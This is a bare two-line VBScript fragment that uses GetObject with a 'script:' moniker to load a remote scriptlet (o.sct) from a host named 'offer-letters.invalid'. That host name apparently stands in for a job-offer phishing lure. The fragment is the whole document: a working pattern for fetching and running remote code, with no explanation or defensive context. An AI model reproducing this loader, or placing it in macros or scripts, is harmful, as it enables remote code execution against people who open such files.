Dim page
Set page = GetObject("script:https://offer-letters.invalid/o.sct")
